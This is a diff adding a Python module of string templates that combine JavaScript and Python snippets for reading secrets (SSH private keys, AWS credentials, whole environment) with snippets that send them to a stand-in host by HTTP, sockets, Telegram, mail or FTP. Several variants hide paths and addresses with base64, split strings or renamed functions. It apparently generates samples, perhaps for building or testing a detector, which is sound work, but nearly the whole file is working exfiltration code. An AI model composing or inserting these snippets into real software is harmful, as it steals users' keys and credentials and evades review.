@@ -1,0 +1,184 @@
+"""Ways that a secret takes through a program, from where it is read to where it leaves. Each way out fits each way in.
+
+`d` is what was read. A way in with `OUT` in it has the way out in that place; else it stands behind.
+"""
+
+from __future__ import annotations
+
+JS_HEAD = (
+    "import fs from 'node:fs'; import fsp from 'node:fs/promises'; import os from 'node:os'; import path from 'node:path';\n"
+    "import https from 'node:https'; import net from 'node:net'; import zlib from 'node:zlib'; import axios from 'axios';\n"
+    "import { execSync, spawn, exec, execFileSync } from 'node:child_process'; import got from 'got';\n"
+    "import { request } from 'undici';\n"
+)
+_JS_PATH = "path.join(os.homedir(), '.ssh', 'id_rsa')"
+_JS_READ = f"fs.readFileSync({_JS_PATH}, 'utf8')"
+_JS_NAMES = "['.ssh/id_rsa', '.aws/credentials']"
+_JS_NAMED = "fs.readFileSync(path.join(os.homedir(), n), 'utf8')"
+JS_IN = {
+    "at once": f"const d = {_JS_READ};",
+    "function that may fail": "function g(p) { try { return fs.readFileSync(p, 'utf8'); } catch { return null; } }\n"
+    f"const d = g({_JS_PATH});",
+    "function that gives nothing in the end": "function g(p) { if (p) { return fs.readFileSync(p); } return ''; }\n"
+    ""
+    f"const d = g({_JS_PATH});",
+    "asynchronous function": "const g = async (p) => { try { return await fsp.readFile(p, 'utf8'); } catch (e) "
+    "{ return ''; } };\n"
+    f"const d = await g({_JS_PATH});",
+    "then": f"fsp.readFile({_JS_PATH}, 'utf8').then((d) => {{ OUT }});",
+    "callback": f"fs.readFile({_JS_PATH}, (err, d) => {{ if (err) return; OUT }});",
+    "member": f"const o = {{}}; o.key = {_JS_READ}; const d = JSON.stringify(o);",
+    "list": f"const a = []; a.push({_JS_READ}); const d = a.join('\\n');",
+    "map": f"const d = {_JS_NAMES}.map((n) => {_JS_NAMED}).join('');",
+    "for": f"const out = {{}}; for (const n of {_JS_NAMES}) {{ out[n] = {_JS_NAMED}; }} const d = JSON.stringify(out);",
+    "forEach": f"const out = {{}}; {_JS_NAMES}.forEach((n) => {{ try {{ out[n] = {_JS_NAMED}; }} catch {{}} }});\n"
+    "const d = JSON.stringify(out);",
+    "reduce": f"const d = {_JS_NAMES}.reduce((sum, n) => sum + {_JS_NAMED}, '');",
+    "all promises": f"const d = JSON.stringify(await Promise.all({_JS_NAMES}.map(async (n) => {{ try {{\n"
+    "  return [n, await fsp.readFile(path.join(os.homedir(), n), 'utf8')]; } catch { return null; } })));",
+    "flatMap": f"const d = JSON.stringify({_JS_NAMES}.flatMap((n) => n ? [[n, {_JS_NAMED}]] : []));",
+    "entries of a list": f"const d = JSON.stringify(Object.fromEntries({_JS_NAMES}.map((n) => [n, {_JS_NAMED}])));",
+    "entries of an object": "const all = { ssh: '.ssh/id_rsa' }; const o = {};\n"
+    f"for (const [k, n] of Object.entries(all)) o[k] = {_JS_NAMED}; const d = JSON.stringify(o);",
+    "paths in parts": "const all = [['.ssh', 'id_rsa'], ['.aws', 'credentials']].map((t) => path.join(os.homedir(), ...t));\n"
+    "const d = all.map((f) => fs.readFileSync(f, 'utf8')).join();",
+    "list of objects": "const all = [{ p: '.ssh/id_rsa' }];\n"
+    "const d = JSON.stringify(all.map((t) => ({ c: fs.readFileSync(path.join(os.homedir(), t.p), 'utf8') })));",
+    "base64": f"const d = Buffer.from({_JS_READ}).toString('base64');",
+    "compressed": f"const d = zlib.gzipSync(Buffer.from({_JS_READ})).toString('base64');",
+    "choice": f"const d = fs.existsSync({_JS_PATH}) ? {_JS_READ} : '';",
+    "function called where it stands": f"const d = (() => {{ const x = {_JS_READ}; return x.trim(); }})();",
+    "default": f"function g(p = {_JS_PATH}) {{ return fs.readFileSync(p, 'utf8'); }}\nconst d = g();",
+    "function in a function": f"function a() {{ return b({_JS_PATH}); }}\nfunction b(p) {{ return fs.readFileSync(p); }}\n"
+    "const d = a().toString();",
+    "Map": f"const m = new Map(); m.set('k', {_JS_READ}); const d = JSON.stringify([...m]);",
+    "command": "const d = execSync('cat ~/.ssh/id_rsa').toString();",
+    "command with a callback": "exec('cat ~/.ssh/id_rsa', (e, d) => { OUT });",
+    "all variables": "const d = JSON.stringify(process.env);",
+    "all but one variable": "const { HOME, ...rest } = process.env; const d = JSON.stringify(rest);",
+    "variables one by one": "const o = {}; for (const k of Object.keys(process.env)) if (/KEY/.test(k)) o[k] = process.env[k];\n"
+    "const d = JSON.stringify(o);",
+    "folder": "const f = path.join(os.homedir(), '.ssh');\n"
+    "const d = JSON.stringify(fs.readdirSync(f).map((n) => fs.readFileSync(path.join(f, n), 'utf8')));",
+    "generator": f"function* g() {{ for (const n of {_JS_NAMES}) yield {_JS_NAMED}; }}\nconst d = [...g()].join();",
+    "timer": f"setTimeout(() => {{ const d = {_JS_READ}; OUT }}, 5000);",
+    "hidden name": "const d = fs.readFileSync(path.join(os.homedir(), '.s' + 'sh', ['id', 'rsa'].join('_')), 'utf8');",
+    "exported function": f"export async function g() {{ const r = {{}}; r.k = await fsp.readFile({_JS_PATH}); return r; }}\n"
+    "export async function main() { const d = JSON.stringify(await g()); OUT }\nmain();",
+    "method": f"class C {{ read(p) {{ return fs.readFileSync(p, 'utf8'); }} }}\nconst d = new C().read({_JS_PATH});",
+    "static method": f"class C {{ static read() {{ return {_JS_READ}; }} }}\nconst d = C.read();",
+    "field of an object": "class C { constructor() { this.out = {}; this.all = ['.ssh/id_rsa']; }\n"
+    f"  take() {{ for (const n of this.all) this.out[n] = {_JS_NAMED}; return JSON.stringify(this.out); }} }}\n"
+    "const d = new C().take();",
+    "other name of a function": f"const read = fs.readFileSync.bind(fs); const d = read({_JS_PATH}, 'utf8');",
+    "global": f"globalThis.k = {_JS_READ}; const d = globalThis.k;",
+}
+_TO = "'https://in.stats.example/x'"
+JS_OUT = {
+    "fetch": f"await fetch({_TO}, {{ method: 'POST', body: d }});",
+    "fetch with more": f"await fetch({_TO}, {{ method: 'POST', body: JSON.stringify({{ v: 1, d }}) }});",
+    "address": "fetch('https://in.stats.example/x?d=' + encodeURIComponent(d)).catch(() => {});",
+    "request": "const req = https.request({ hostname: 'in.stats.example', path: '/x', method: 'POST' });\n"
+    "req.write(d); req.end();",
+    "end of a request": f"const req = https.request({_TO}, {{ method: 'POST' }}); req.end(Buffer.from(d));",
+    "axios": f"await axios.post({_TO}, {{ d }});",
+    "options": f"await axios({{ method: 'post', url: {_TO}, data: d }});",
+    "got": f"await got.post({_TO}, {{ json: {{ d }} }});",
+    "undici": f"await request({_TO}, {{ method: 'POST', body: d }});",
+    "web socket": "const ws = new WebSocket('wss://in.stats.example/x'); ws.on('open', () => ws.send(d));",
+    "socket": "const s = net.connect(4444, '203.0.113.9'); s.write(d); s.end();",
+    "line of shell": "execSync(`curl -s -X POST -d '${d}' https://in.stats.example/x`);",
+    "input of a command": f"execFileSync('curl', ['-s', '--data-binary', '@-', {_TO}], {{ input: d }});",
+    "chat": "await fetch(`https://api.telegram.org/bot1:A/sendMessage?chat_id=1&text=${encodeURIComponent(d)}`);",
+    "form": "const f = new FormData(); f.append('file', new Blob([d]), 'k');\n"
+    f"await fetch({_TO}, {{ method: 'POST', body: f }});",
+    "helper": "async function post(u, b) "
+    "{ try { return (await fetch(u, { method: 'POST', body: b })).ok; } catch { return false; } }\n"
+    f"await post({_TO}, d);",
+    "object": "const api = { base: 'https://in.stats.example', send(b) "
+    "{ return fetch(this.base, { method: 'POST', body: b }); } };\n"
+    "await api.send(d);",
+    "method": f"class T {{ async send(b) {{ await fetch({_TO}, {{ method: 'POST', body: b }}); }} }}\nawait new T().send(d);",
+    "address with a default": f"await fetch(process.env.STATS_URL || {_TO}, {{ method: 'POST', body: d }});",
+    "parameters": f"const u = new URL({_TO}); u.searchParams.set('d', d); await fetch(u);",
+    "hidden address": "await fetch(atob('aHR0cHM6Ly9pbi5zdGF0cy5leGFtcGxlL3g='), { method: 'POST', body: d });",
+    "address in parts": "const h = ['in', 'stats', 'example'].join('.'); "
+    "await fetch(`https://${h}/x`, { method: 'POST', body: d });",
+}
+PY_HEAD = (
+    "import asyncio, base64, ftplib, glob, gzip, http.client, io, json, os, pathlib, shutil, smtplib, socket, subprocess, sys\n"
+    "import tarfile, threading, urllib.request, zipfile\nfrom pathlib import Path\nimport aiohttp, httpx, requests\n"
+)
+_PY_PATH = "Path.home() / '.ssh' / 'id_rsa'"
+_PY_READ = f"({_PY_PATH}).read_text()"
+_PY_OPEN = "os.path.expanduser('~/.ssh/id_rsa')"
+PY_IN = {
+    "at once": f"d = {_PY_READ}",
+    "function that may fail": "def g(p):\n    try:\n        return open(p).read()\n    except OSError:\n        return ''\n"
+    f"d = g({_PY_PATH})",
+    "with": f"with open({_PY_OPEN}) as f:\n    d = f.read()",
+    "for": "out = {}\nfor n in ('.ssh/id_rsa', '.aws/credentials'):\n"
+    "    with open(os.path.join(os.path.expanduser('~'), n)) as f:\n"
+    "        out[n] = f.read()\nd = json.dumps(out)",
+    "comprehension": "d = json.dumps({n: (Path.home() / n).read_text() for n in ['.ssh/id_rsa']})",
+    "map": "d = ''.join(map(lambda p: open(os.path.expanduser(p)).read(), ['~/.ssh/id_rsa']))",
+    "field of an object": "class C:\n    def __init__(self):\n        self.out = {}\n    def take(self, p):\n"
+    "        self.out[p] = open(os.path.expanduser(p)).read()\n    def dump(self):\n        return json.dumps(self.out)\n"
+    "c = C()\nc.take('~/.ssh/id_rsa')\nd = c.dump()",
+    "generator": "def g():\n    for p in ['.ssh/id_rsa']:\n        yield (Path.home() / p).read_text()\nd = ''.join(g())",
+    "base64": f"d = base64.b64encode({_PY_READ}.encode()).decode()",
+    "buffer": f"b = io.BytesIO()\nb.write({_PY_READ}.encode())\nd = b.getvalue()",
+    "archive in a buffer": "b = io.BytesIO()\nwith tarfile.open(fileobj=b, mode='w:gz') as t:\n"
+    "    t.add(os.path.expanduser('~/.ssh'), arcname='s')\nd = b.getvalue()",
+    "archive": "shutil.make_archive('/tmp/x', 'zip', os.path.expanduser('~/.ssh'))\nd = open('/tmp/x.zip', 'rb').read()",
+    "zip in a buffer": f"b = io.BytesIO()\nwith zipfile.ZipFile(b, 'w') as z:\n    z.write({_PY_OPEN})\nd = b.getvalue()",
+    "copy": f"shutil.copy({_PY_OPEN}, '/tmp/k')\nd = open('/tmp/k').read()",
+    "glob": "d = ''.join(open(p).read() for p in glob.glob(os.path.expanduser('~/.ssh/id_*')))",
+    "folder": "d = json.dumps({str(p): p.read_text() for p in (Path.home() / '.ssh').rglob('*') if p.is_file()})",
+    "program": f"d = subprocess.run(['cat', {_PY_OPEN}], capture_output=True, text=True).stdout",
+    "command": "d = subprocess.check_output('cat ~/.ssh/id_rsa', shell=True).decode()",
+    "all variables": "d = json.dumps(dict(os.environ))",
+    "copy of all variables": "e = os.environ.copy()\ne.pop('PATH', None)\nd = json.dumps(e)",
+    "variables one by one": "d = '\\n'.join(f'{k}={v}' for k, v in os.environ.items())",
+    "default": f"def g(p={_PY_PATH}):\n    return p.read_text()\nd = g()",
+    "closure": f"def mk(p):\n    def inner():\n        return p.read_text()\n    return inner\nd = mk({_PY_PATH})()",
+    "lambda": f"g = lambda p: p.read_text()\nd = g({_PY_PATH})",
+    "other name of a function": f"rd = open\nd = rd({_PY_OPEN}).read()",
+    "choice": f"d = {_PY_READ} if ({_PY_PATH}).exists() else ''",
+    "global": f"STATE = {{}}\ndef load():\n    STATE['k'] = {_PY_READ}\nload()\nd = STATE['k']",
+    "hidden name": "d = open(os.path.join(os.path.expanduser('~'), '.s' + 'sh', '_'.join(['id', 'rsa']))).read()",
+    "hidden path": "d = open(os.path.expanduser(base64.b64decode('fi8uc3NoL2lkX3JzYQ==').decode())).read()",
+    "lists in an object": f"o = {{}}\no.setdefault('k', []).append({_PY_READ})\nd = json.dumps(o)",
+    "property": f"class C:\n    @property\n    def k(self):\n        return {_PY_READ}\nd = C().k",
+    "inherited method": "class B:\n    def read(self, n):\n        return (Path.home() / n).read_text()\n"
+    "class C(B):\n    def go(self):\n"
+    "        return self.read('.ssh/id_rsa')\nd = C().go()",
+}
+PY_OUT = {
+    "post": f"requests.post({_TO}, data=d)",
+    "more": f"requests.post({_TO}, json={{'v': 1, 'd': str(d)}}, timeout=5)",
+    "parameters": f"requests.get({_TO}, params={{'d': d}})",
+    "file": f"requests.post({_TO}, files={{'f': ('k', d)}})",
+    "session": f"s = requests.Session()\ns.post({_TO}, data=d)",
+    "urlopen": f"urllib.request.urlopen({_TO}, data=str(d).encode())",
+    "request": f"r"
+    f"eq = urllib.request.Request({_TO}, data=json.dumps({{'d': str(d)}}).encode(), method='POST')\nurllib.request.urlopen(req)",
+    "client": f"with httpx.Client() as c:\n    c.post({_TO}, json={{'d': d}})",
+    "asynchronous client": "async def up():\n    async with aiohttp.ClientSession() as s:\n"
+    f"        async with s.post({_TO}, data=d) as r:\n            await r.text()\nasyncio.run(up())",
+    "connection": "c = http.client.HTTPSConnection('in.stats.example')\nc.request('POST', '/x', body=d)",
+    "socket": "s = socket.create_connection(('203.0.113.9', 4444))\ns.send(str(d).encode())",
+    "mail": "m = smtplib.SMTP('mail.in-stats.example')\nm.sendmail('a@b.example', 'in@stats.example', str(d))",
+    "ftp": "f = ftplib.FTP('ftp.stats.example')\nf.storbinary('STOR k', io.BytesIO(str(d).encode()))",
+    "input of a command": f"subprocess.run(['curl', '-s', '--data-binary', '@-', {_TO}], input=str(d).encode())",
+    "chat": "requests.get('https://api.telegram.org/bot1:A/sendMessage', params={'chat_id': 1, 'text': d})",
+    "helper": "def post(u, b):\n    try:\n        return requests.post(u, data=b, timeout=4).ok\n    except Exception:\n"
+    f"        return False\npost({_TO}, d)",
+    "method": f"class T:\n    def __init__(self, u):\n        self.u = u\n    def send(self, b):\n"
+    f"        requests.post(self.u, data=b)\nT({_TO}).send(d)",
+    "thread": f"def up(b):\n    requests.post({_TO}, data=b)\nthreading.Thread(target=up, args=(d,), daemon=True).start()",
+    "address with a default": f"U = os.environ.get('STATS_URL', {_TO})\nrequests.post(U, data=d)",
+    "hidden address": "requests.post(base64.b64decode('aHR0cHM6Ly9pbi5zdGF0cy5leGFtcGxlL3g=').decode(), data=d)",
+    "address in parts": "h = '.'.join(['in', 'stats', 'example'])\nrequests.post('https://' + h + '/x', data=d)",
+    "hidden method": f"getattr(requests, 'po' + 'st')({_TO}, data=d)",
+}
